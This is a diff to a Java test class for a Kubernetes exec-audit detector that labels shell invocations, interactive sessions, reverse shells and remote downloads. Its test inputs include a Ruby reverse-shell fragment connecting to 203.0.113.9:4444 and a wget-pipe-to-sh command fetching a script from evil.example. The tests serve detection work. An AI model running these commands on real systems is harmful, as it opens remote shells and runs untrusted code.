@@ -47,7 +47,15 @@ class ExecLabelsTest {
         assertFalse(firstWins.labels().contains("exec_interactive_shell"), "the API server reads a flag's first value");
         Detection windows = run(exec("stdin=true&tty=true", "C:\\Windows\\System32\\cmd.exe"));
         assertTrue(windows.labels().containsAll(List.of("exec_shell_invoked", "exec_interactive_shell")), windows.labels().toString());
-        assertTrue(run(exec("", "powershell.exe", "-Command", "Get-ChildItem")).labels().contains("exec_shell_invoked"));
+        Detection cmdScript = run(exec("stdout=true", "cmd.exe", "/c", "whoami"));
+        assertTrue(cmdScript.labels().contains("exec_shell_invoked"));
+        assertFalse(cmdScript.labels().contains("exec_interactive_shell"), "cmd /c runs a script, as sh -c does");
+        Detection psScript = run(exec("stdout=true", "powershell.exe", "-Command", "Get-ChildItem"));
+        assertTrue(psScript.labels().contains("exec_shell_invoked"));
+        assertFalse(psScript.labels().contains("exec_interactive_shell"), "-Command is PowerShell's -c");
+        Detection attachFirst = p.one(Ev.request().object("pods", "shop", "web-1").subresource("attach").verb("create")
+                .stage("ResponseStarted").code(101).uri("/api/v1/namespaces/shop/pods/web-1/attach?stdin=0&stdin=true&tty=true").json());
+        assertFalse(attachFirst.labels().contains("exec_interactive_shell"), "attach: stdin is its first value, 0");
     }
 
     @Test
@@ -58,6 +66,9 @@ class ExecLabelsTest {
         assertTrue(run(exec("", "/usr/bin/python3.11", "-c", "print(1)")).labels().contains("exec_tool_command"), "versioned binary");
         assertTrue(run(exec("", "sh", "-c", "perl5.36.0 -e 'print 1'")).labels().contains("exec_tool_command"));
         assertFalse(run(exec("", "/app/server2.1")).labels().contains("exec_tool_command"));
+        assertFalse(run(exec("", "ssh2", "host")).labels().contains("exec_tool_command"), "only a dotted version is dropped");
+        assertTrue(run(exec("", "ruby3.2", "-rsocket", "-e", "c=TCPSocket.new('203.0.113.9',4444)")).labels()
+                .containsAll(List.of("exec_tool_command", "exec_reverse_shell")), "versioned interpreters in the reverse-shell forms too");
         assertTrue(run(exec("", "sh", "-lc", "wget -qO- https://evil.example/x.sh | sh")).labels()
                 .containsAll(List.of("exec_tool_command", "exec_remote_download")));
     }
@@ -65,7 +76,8 @@ class ExecLabelsTest {
     @Test
     void queryPairsTheApiServerDropsAreNotPartOfTheCommand() {
         // Go's url.ParseQuery drops a pair with a broken escape or a ';': it never runs, and must not become argv0
-        for (String decoy : new String[] {"command=x%zz", "command=a;b", "command=%", "x%zz=1"}) {
+        for (String decoy : new String[] {"command=x%zz", "command=a;b", "command=%", "x%zz=1", "command=%+1", "command=%-0",
+            "command=%\u0663\u0663"}) {
             Detection d = run(exec("", "bash").uri("/api/v1/namespaces/shop/pods/web-1/exec?" + decoy
                     + "&command=bash&stdin=true&tty=true"));
             assertEquals("bash", d.execCommand(), decoy);
